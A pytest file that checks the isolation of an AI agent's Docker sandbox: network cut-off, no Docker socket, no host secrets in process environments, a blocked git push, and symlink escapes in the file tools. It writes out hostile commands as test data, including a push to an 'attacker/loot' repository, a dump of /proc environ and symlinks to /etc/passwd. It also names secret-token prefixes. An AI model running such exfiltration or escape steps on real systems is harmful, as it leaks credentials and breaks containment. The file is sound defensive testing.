"""What an agent (or an issue that steers it) can reach from inside a real sandbox."""

from __future__ import annotations

from agents.sandbox.docker import DockerSandbox
from agents.tools.read import ReadTool
from agents.tools.write import WriteTool
from tests.agents.conftest import HOST_CANARY


def test_agent_phase_has_only_loopback_and_no_docker_socket(sandbox: DockerSandbox) -> None:
    sandbox.disconnect_networks()  # what the run does before the agents start
    assert sandbox.exec("ls /sys/class/net").output.split() == ["lo"]
    assert "absent" in sandbox.exec("test -e /var/run/docker.sock || echo absent").output


def test_environment_and_processes_carry_no_host_secrets(sandbox: DockerSandbox) -> None:
    dump = sandbox.exec("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'").output
    assert HOST_CANARY not in dump
    for marker in ("PRIVATE KEY", "ghs_", "xoxb-", "sk-ant-", "WEBHOOK_SECRET", "SIGNING_SECRET"):
        assert marker not in dump, marker


def test_git_push_from_the_sandbox_fails(sandbox: DockerSandbox) -> None:
    sandbox.disconnect_networks()
    result = sandbox.exec("git push https://github.com/attacker/loot.git HEAD:main 2>&1")
    assert result.exit_code != 0


def test_symlinks_cannot_lead_the_file_tools_out_of_the_workspace(sandbox: DockerSandbox) -> None:
    sandbox.exec("ln -sfn /etc/passwd sec-passwd && ln -sfn ../../ sec-up")
    for path in ("sec-passwd", "sec-up/etc/passwd"):
        read = ReadTool().run(sandbox, {"path": path})
        assert read.is_error and "root:" not in read.content, path
        write = WriteTool().run(sandbox, {"path": path, "content": "owned\n"})
        assert write.is_error, path
    assert "owned" not in sandbox.exec("cat /etc/passwd").output
